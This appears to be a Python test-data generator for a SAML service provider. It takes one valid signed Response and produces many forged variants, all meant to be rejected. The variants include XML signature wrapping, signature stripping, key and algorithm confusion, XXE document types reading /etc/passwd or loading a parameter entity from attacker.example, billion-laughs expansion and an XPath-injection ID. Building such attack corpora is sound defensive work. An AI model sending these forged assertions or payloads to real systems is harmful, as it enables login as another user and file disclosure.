"""Takes any good Response apart and yields what a stranger could make of it.

The stranger holds one good message and all public keys, but no private key of ours or of the identity provider.
Families: wrapping, stripping, doubling, redirected references, algorithm and key confusion, parser differentials,
document types and sizes, forged ciphertexts. Whatever comes out of here must be refused.
"""

from collections.abc import Callable, Iterator
from copy import deepcopy
from itertools import product

from lxml import etree

from . import idp

VICTIM = "victim@example.com"
Attack = tuple[str, bytes]

_SIGNATURE, _ASSERTION = f"{{{idp.DS}}}Signature", f"{{{idp.SAML}}}Assertion"
_CONTAINERS = (_ASSERTION, f"{{{idp.SAML}}}EncryptedAssertion")


def attacks(document: etree._Element) -> Iterator[Attack]:
    """Every attack on this one message, as (name, octets); only what differs from the message itself."""
    original = _xml(document)
    for family in _FAMILIES:
        for name, forged in family(document):
            if forged != original:
                yield f"{family.__name__[1:]}: {name}", forged


def _xml(element: etree._Element) -> bytes:
    return etree.tostring(element)


def container(root: etree._Element) -> etree._Element:
    return next(child for child in root if child.tag in _CONTAINERS)


def _signed(root: etree._Element) -> list[etree._Element]:
    return [element for element in (root, container(root)) if element.find(_SIGNATURE) is not None]


def _evil_assertion(identifier: str = "_evil") -> etree._Element:
    response = idp.unsigned(idp.SIMPLESAMLPHP, name_id=VICTIM)
    assertion = idp.assertion_of(response)
    assertion.set("ID", identifier)
    return assertion


def _evil(element: etree._Element, identifier: str) -> etree._Element:
    """The same kind of element for the victim, without a signature."""
    if element.tag == _ASSERTION:
        return _evil_assertion(identifier)
    if element.tag in _CONTAINERS:
        return idp.encrypt(_xml(_evil_assertion(identifier)))
    response = idp.unsigned(idp.SIMPLESAMLPHP, name_id=VICTIM)
    response.set("ID", identifier)
    return response


def _inside(tag: str) -> Callable[[etree._Element, etree._Element], None]:
    def place(evil: etree._Element, original: etree._Element) -> None:
        holder = etree.SubElement(evil, tag)
        holder.append(original)

    return place


def _in_signature(path: str) -> Callable[[etree._Element, etree._Element], None]:
    def place(evil: etree._Element, original: etree._Element) -> None:
        signature = evil.find(_SIGNATURE)
        if signature is None:
            signature = etree.SubElement(evil, _SIGNATURE)
        holder = signature if not path else signature.find(f"{{{idp.DS}}}{path}")
        if holder is None:
            holder = etree.SubElement(signature, f"{{{idp.DS}}}{path}")
        holder.append(original)

    return place


_PLACES: dict[str, Callable[[etree._Element, etree._Element], None]] = {
    "first child": lambda evil, original: evil.insert(0, original),
    "last child": lambda evil, original: evil.append(original),
    "in Extensions": _inside(f"{{{idp.SAMLP}}}Extensions"),
    "in Advice": _inside(f"{{{idp.SAML}}}Advice"),
    "in another namespace": _inside("{urn:example}Box"),
    "in Signature": _in_signature(""),
    "in Object": _in_signature("Object"),
    "in KeyInfo": _in_signature("KeyInfo"),
    "in SignedInfo": _in_signature("SignedInfo"),
}


def _wrapping(document: etree._Element) -> Iterator[Attack]:
    """XSW 1-8 and their relatives (Somorovsky et al. 2012): which element, where the original goes, whose signature."""
    for index, _ in enumerate(_signed(document)):
        for (place, put), moved, identifier in product(_PLACES.items(), ("kept", "moved", "copied"), ("same", "new")):
            root = deepcopy(document)
            original = _signed(root)[index]
            evil = _evil(original, original.get("ID", "_x") if identifier == "same" else "_evil")
            if original is root:
                root = evil
            else:
                idp.swap(original, evil)
            signature = original.find(_SIGNATURE)
            assert signature is not None
            if moved == "copied":
                evil.insert(1, deepcopy(signature))
            elif moved == "moved":
                evil.insert(1, signature)
            put(evil, original)
            yield f"{etree.QName(original).localname} {place}, signature {moved}, {identifier} ID", _xml(root)
    for before in (True, False):
        root = deepcopy(document)
        original = container(root)
        (original.addprevious if before else original.addnext)(_evil(original, "_evil"))
        yield f"a second {etree.QName(original).localname} {'before' if before else 'after'}", _xml(root)
        root = deepcopy(document)
        holder = etree.Element(f"{{{idp.SAMLP}}}Extensions")
        holder.append(_evil_assertion())
        root.insert(1 if before else len(root), holder)
        yield f"an assertion in Extensions {'before' if before else 'after'}", _xml(root)


def _stripping(document: etree._Element) -> Iterator[Attack]:
    for change, emptied in product((True, False), (False, True)):
        root = deepcopy(document)
        for signature in list(root.iter(_SIGNATURE)):
            if emptied:
                del signature[:]
            else:
                signature.getparent().remove(signature)  # type: ignore[union-attr]
        if change or container(root).tag != _ASSERTION:
            idp.swap(container(root), _evil(container(root), "_evil"))
        yield f"{'emptied' if emptied else 'removed'}, {'changed' if change else 'otherwise as it was'}", _xml(root)
    root = deepcopy(document)
    idp.swap(container(root), _evil(container(root), "_evil"))
    yield "another person, signatures of the Response kept", _xml(root)
    response = idp.unsigned(idp.SIMPLESAMLPHP, name_id=VICTIM)
    yield "nothing was ever signed", _xml(response)


def _doubling(document: etree._Element) -> Iterator[Attack]:
    if not _signed(document):
        return
    for name in ("Signature", "SignedInfo", "SignatureValue", "Reference", "Transforms", "DigestValue", "KeyInfo"):
        for before in (True, False):
            root = deepcopy(document)
            found = next(root.iter(f"{{{idp.DS}}}{name}"))
            (found.addprevious if before else found.addnext)(deepcopy(found))
            yield f"{name} twice, copy {'before' if before else 'after'}", _xml(root)
    for name in ("Object", "Manifest", "SignatureProperties"):
        root = deepcopy(document)
        etree.SubElement(next(root.iter(_SIGNATURE)), f"{{{idp.DS}}}{name}")
        yield f"{name} in the Signature", _xml(root)
    for parent in ("Status", "Issuer"):
        root = deepcopy(document)
        target = next(item for item in root if etree.QName(item).localname == parent)
        target.append(next(root.iter(_SIGNATURE)))
        yield f"Signature moved into {parent}", _xml(root)


def _identity(document: etree._Element) -> Iterator[Attack]:
    for attribute in ("ID", "Id", "id", "{urn:example}ID", "{http://www.w3.org/XML/1998/namespace}id"):
        root = deepcopy(document)
        status = next(item for item in root if etree.QName(item).localname == "Status")
        status.set(attribute, str(root.get("ID")))
        yield f"the ID a second time, as {attribute}", _xml(root)
    for value in (None, "", "_other", "#", "_x y", "_x')|//*[('1"):
        root = deepcopy(document)
        target = next(iter(_signed(root)), None)
        if target is None:
            return
        if value is None:
            del target.attrib["ID"]
        else:
            target.set("ID", value)
        yield f"ID {value!r}", _xml(root)


def _references(document: etree._Element) -> Iterator[Attack]:
    for uri in (
        None,
        "",
        "#",
        "#_other",
        "#xpointer(/)",
        "#xpointer(id('_x'))",
        "http://attacker.example/x",
        "_response1",
    ):
        root = deepcopy(document)
        for reference in root.iter(f"{{{idp.DS}}}Reference"):
            if uri is None:
                del reference.attrib["URI"]
            else:
                reference.set("URI", uri)
        yield f"URI {uri!r}", _xml(root)


def _algorithms(document: etree._Element) -> Iterator[Attack]:
    more, tr = idp.MORE, "http://www.w3.org/TR"
    tables = {
        "SignatureMethod": f"{idp.DS}rsa-sha1 {idp.DS}dsa-sha1 {idp.DS}hmac-sha1 {more}hmac-sha256 "
        f"{more}rsa-md5 urn:none",
        "DigestMethod": f"{idp.DS}sha1 {more}md5 urn:none",
        "CanonicalizationMethod": f"{tr}/2001/REC-xml-c14n-20010315 {tr}/1999/REC-xslt-19991116",
        "Transform": f"{tr}/1999/REC-xslt-19991116 {tr}/1999/REC-xpath-19991116 {idp.DS}base64 {idp.EXC} "
        "http://www.w3.org/2002/06/xmldsig-filter2 http://www.w3.org/2002/07/decrypt#XML",
    }
    for element, names in tables.items():
        for name in (*names.split(), ""):
            root = deepcopy(document)
            for found in root.iter(f"{{{idp.DS}}}{element}"):
                found.set("Algorithm", name)
            yield f"{element} {name}", _xml(root)
    for transforms in ((), (idp.EXC,), (idp.EXC, idp.ENVELOPED), (idp.ENVELOPED, idp.EXC, idp.EXC)):
        root = deepcopy(document)
        for parent in root.iter(f"{{{idp.DS}}}Transforms"):
            del parent[:]
            for name in transforms:
                etree.SubElement(parent, f"{{{idp.DS}}}Transform", Algorithm=name)
        yield f"{len(transforms)} transforms {transforms}", _xml(root)
    for element, child in (
        ("SignatureMethod", f"{{{idp.DS}}}HMACOutputLength"),
        ("Transform", "{http://www.w3.org/1999/XSL/Transform}stylesheet"),
        ("Transform", f"{{{idp.DS}}}XPath"),
        ("CanonicalizationMethod", "{urn:example}parameter"),
        ("DigestValue", "{urn:example}split"),
        ("SignatureValue", "{urn:example}split"),
    ):
        root = deepcopy(document)
        for found in root.iter(f"{{{idp.DS}}}{element}"):
            etree.SubElement(found, child).text = "0"
        yield f"{etree.QName(child).localname} in {element}", _xml(root)
    for element, value in product(("DigestValue", "SignatureValue"), ("", "%%%", "AAAA", "\u00e4")):
        root = deepcopy(document)
        for found in root.iter(f"{{{idp.DS}}}{element}"):
            found.text = value
        yield f"{element} {value!r}", _xml(root)


def _keys(document: etree._Element) -> Iterator[Attack]:
    """The victim's assertion, well signed, by every key that a stranger has."""
    for name, method, by in (
        ("an own certificate of the same subject", f"{idp.MORE}rsa-sha256", idp.attacker()),
        ("an own elliptic key", f"{idp.MORE}ecdsa-sha256", idp.pair("idp.example.com", "ec")),
        ("the public key as HMAC secret", f"{idp.MORE}hmac-sha256", idp.idp()),
    ):
        for key_info in ("certificate", "key value", "none"):
            response = idp.unsigned(idp.OKTA, name_id=VICTIM)
            idp.swap(idp.assertion_of(response), idp.sign(idp.assertion_of(response), by, method=method))
            response = idp.sign(response, by, method=method)
            for info in list(response.iter(f"{{{idp.DS}}}KeyInfo")):
                _set_key_info(info, key_info, by)
            yield f"{name}, KeyInfo: {key_info}", _xml(response)
    root = deepcopy(document)
    for signature in root.iter(_SIGNATURE):
        idp.resign(signature, idp.attacker())
    yield "a new SignatureValue by an own key", _xml(root)


def _set_key_info(info: etree._Element, kind: str, by: idp.Pair) -> None:
    if kind == "none":
        info.getparent().remove(info)  # type: ignore[union-attr]
    elif kind == "key value" and not isinstance(by.key, idp.ec.EllipticCurvePrivateKey):
        numbers = by.key.public_key().public_numbers()
        value = etree.SubElement(etree.SubElement(info, f"{{{idp.DS}}}KeyValue"), f"{{{idp.DS}}}RSAKeyValue")
        for name, number in (("Modulus", numbers.n), ("Exponent", numbers.e)):
            octets = number.to_bytes((number.bit_length() + 7) // 8)
            etree.SubElement(value, f"{{{idp.DS}}}{name}").text = idp.base64.b64encode(octets).decode()


def _octets(document: etree._Element) -> Iterator[Attack]:
    """What two parsers could read in two ways."""
    text = _xml(document)
    end = text.index(b">")
    for name, doctype in (
        ("empty", b"<!DOCTYPE x>"),
        ("external", b'<!DOCTYPE x SYSTEM "file:///etc/passwd">'),
        ("entity", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
        ("parameter entity", b'<!DOCTYPE x [<!ENTITY % e SYSTEM "http://attacker.example/e">%e;]>'),
        ("attribute default", b'<!DOCTYPE x [<!ATTLIST Assertion ID CDATA "_evil">]>'),
        ("laughs", b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'),
        ("lower case", b"<!doctype x>"),
    ):
        yield f"document type: {name}", doctype + text
    yield "an entity that nothing defines", text.replace(b"<", b"<", 1).replace(b">", b">&evil;", 1)
    for name, declaration in (
        ("UTF-7", b'<?xml version="1.0" encoding="UTF-7"?>'),
        ("Latin-1", b'<?xml version="1.0" encoding="ISO-8859-1"?>'),
        ("version 1.1", b'<?xml version="1.1"?>'),
        ("twice", b'<?xml version="1.0"?><?xml version="1.0"?>'),
        ("unclosed", b'<?xml version="1.0"'),
    ):
        yield f"declaration: {name}", declaration + text
    yield "UTF-16", text.decode().encode("utf-16")
    yield "UTF-32", text.decode().encode("utf-32")
    yield "octets that are no UTF-8", text[:end] + b' x="\xff\xfe"' + text[end:]
    yield "NUL at the end", text + b"\x00"
    for name, strange in (("comment", b"<!--x-->"), ("instruction", b"<?x y?>")):
        yield f"{name} before the root", strange + text
        yield f"{name} after the root", text + strange
        yield f"{name} in the root", text[: end + 1] + strange + text[end + 1 :]
        for word in (b"ann@", b"Success", b"<ds:DigestValue>", b"<ds:SignatureValue>", b"<ds:SignedInfo>"):
            if word in text and not word.isalpha():
                yield f"{name} at {word.decode()}", text.replace(word, word + strange)
    yield "style sheet", b'<?xml-stylesheet href="http://attacker.example/x.xsl" type="text/xsl"?>' + text
    yield "relative namespace name", text[:end] + b' xmlns:x="relative"' + text[end:]
    yield "relative default namespace", text[: end + 1] + b'<x xmlns="../x"/>' + text[end + 1 :]
    yield "text after the root", text + b"x"
    yield "a second root", text + text
    yield "cut off", text[:-10]
    yield "empty", b""
    yield "JSON", b'{"saml": true}'
    yield "another root", b'<Response xmlns="urn:oasis:names:tc:SAML:1.0:protocol"/>'
    yield "the assertion alone", etree.tostring(container(document), with_tail=False)


def _sizes(document: etree._Element) -> Iterator[Attack]:
    text = _xml(document)
    end = text.index(b">") + 1
    yield "deep", text[:end] + b"<x>" * 100 + b"</x>" * 100 + text[end:]
    yield "deeper than libxml2 goes", text[:end] + b"<x>" * 3000 + b"</x>" * 3000 + text[end:]
    yield "many elements", text[:end] + b"<x/>" * 12_000 + text[end:]
    scope = b"".join(b' xmlns:n%d="urn:%d"' % (number, number) for number in range(200))
    yield "many namespaces", text[:end] + b"<x" + scope + b"/>" + text[end:]
    yield "many declarations", text[:end] + b'<x xmlns:a="u:a" xmlns:b="u:b"/>' * 4100 + text[end:]
    yield "long", text[:end] + b" " * 300_000 + text[end:]


def _secret(document: etree._Element) -> Iterator[Attack]:
    """Ciphertexts that everybody can make with our public key."""
    evil = _xml(_evil_assertion())
    by_attacker = _xml(idp.sign(_evil_assertion(), idp.attacker()))
    nested = _evil_assertion()
    nested.append(idp.encrypt(evil)[0])
    with_advice = _evil_assertion()
    etree.SubElement(with_advice, f"{{{idp.SAML}}}Advice").append(idp.encrypt(evil))
    plaintexts = {
        "unsigned": evil,
        "signed by an own key": by_attacker,
        "two assertions": evil + evil,
        "a whole Response": _xml(idp.unsigned(idp.OKTA)),
        "EncryptedData inside": _xml(nested),
        "EncryptedAssertion in Advice": _xml(with_advice),
        "a document type": b"<!DOCTYPE x>" + evil,
        "no XML": b"garbage",
        "nothing": b"",
    }
    for (name, plaintext), algorithm in product(plaintexts.items(), ("aes128-cbc", "aes256-gcm")):
        root = deepcopy(document)
        idp.swap(container(root), idp.encrypt(plaintext, algorithm=algorithm))
        yield f"{name}, {algorithm}, in the good Response", _xml(root)
        response = idp.unsigned(idp.OKTA, name_id=VICTIM)
        idp.swap(idp.assertion_of(response), idp.encrypt(plaintext, algorithm=algorithm))
        yield f"{name}, {algorithm}, in an own Response", _xml(response)
    for before in (True, False):
        root = deepcopy(document)
        original = container(root)
        (original.addprevious if before else original.addnext)(idp.encrypt(evil))
        yield f"beside the good one, {'before' if before else 'after'}", _xml(root)
    response = idp.unsigned(idp.OKTA, name_id=VICTIM)
    idp.swap(idp.assertion_of(response), idp.encrypt(evil, transport="rsa-1_5"))
    yield "RSA 1.5 key transport", _xml(response)


def _hidden(document: etree._Element) -> Iterator[Attack]:
    """Attacks on the signature inside the ciphertext, by somebody who knows the plaintext."""
    if container(document).tag == _ASSERTION:
        return
    signed = idp.sign(idp.assertion_of(idp.unsigned(idp.OKTA)))
    plain = _xml(signed)
    for family in (_references, _algorithms):
        for name, forged in family(signed):
            if forged == plain:
                continue
            response = idp.unsigned(idp.OKTA)
            idp.swap(idp.assertion_of(response), idp.encrypt(forged))
            yield name, _xml(response)


_FAMILIES = (
    _wrapping,
    _stripping,
    _doubling,
    _identity,
    _references,
    _algorithms,
    _keys,
    _octets,
    _sizes,
    _secret,
    _hidden,
)
